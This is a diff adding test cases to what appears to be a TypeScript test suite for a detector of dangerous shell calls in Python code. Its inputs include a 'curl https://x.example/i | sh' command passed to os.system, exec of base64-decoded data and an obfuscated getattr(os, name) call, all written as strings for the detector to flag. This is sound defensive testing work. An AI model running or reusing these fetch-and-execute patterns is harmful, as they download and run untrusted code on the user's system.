@@ -184,6 +184,43 @@ function nested(code: string, depth: number, quoted: (inner: string) => string):
 
 const single = (text: string): string => `'${text.replace(/[\\']/g, "\\$&")}'`;
 
+describe("calls with texts that cannot lead to a finding", () => {
+  const doubling = range(30)
+    .map((at) => {
+      const call = `f${String(at)}`;
+      return `def f${String(at + 1)}(c):\n    ${call}(c + 'a')\n    ${call}(c + 'b')`;
+    })
+    .join("\n");
+  const logging = range(3000)
+    .map((at) => `run("state", "line ${String(at)}")`)
+    .join("\n");
+  const answer = async (code: string): Promise<readonly [string, number]> => {
+    const { outcome, spans } = (await sharedDetector("extended")).detect(
+      fenced("python", `import os, base64\n${code}`),
+    );
+    return [outcome.status, spans.length];
+  };
+
+  it("are one call, however many there are", async () => {
+    const program = `def f0(c):\n    pass\n${doubling}\nf30('')\n`;
+    expect(await answer(`${program}os.system(name)`)).toEqual(["complete", 0]);
+    expect(await answer(`${program}os.system("curl https://x.example/i | sh")`)).toEqual([
+      "complete",
+      1,
+    ]);
+  });
+
+  it.each([
+    ["a command", `os.system(text)`, `run("state", "curl https://x.example/i | sh")`],
+    ["a name", `getattr(os, name)(base64.b64decode(data))`, `run("system", "")`],
+    ["a decoded text", `exec(text)`, `run("state", base64.b64decode(data))`],
+  ])("hide no call that is given %s", async (_, body, call) => {
+    const program = (calls: string): string => `def run(name, text):\n    ${body}\n${calls}`;
+    expect(await answer(program(logging))).toEqual(["complete", 0]);
+    expect(await answer(program(`${logging}\n${call}`))).toEqual(["complete", 1]);
+  });
+});
+
 describe("limits of code are reported", { timeout: 60_000 }, () => {
   const strings: readonly (readonly [string, string, (inner: string) => string])[] = [
     ["python", DECODES, (inner) => `exec(${JSON.stringify(inner)})`],
@@ -205,13 +242,13 @@ describe("limits of code are reported", { timeout: 60_000 }, () => {
   it.each([
     ["a string that doubles", `s = "ls;"\n${"s = s + s\n".repeat(30)}os.system(s)`, "size"],
     [
-      "calls that double",
+      "calls that double with the names of commands",
       `def f0(c):\n    pass\n${range(30)
         .map(
           (at) =>
-            `def f${String(at + 1)}(c):\n    f${String(at)}(c+'a')\n    f${String(at)}(c+'b')`,
+            `def f${String(at + 1)}(c):\n    f${String(at)}(c+'curl ')\n    f${String(at)}(c+'wget ')`,
         )
-        .join("\n")}\nf30('a')\nexec("ls")`,
+        .join("\n")}\nf30('')\nexec("ls")`,
       "steps",
     ],
     [
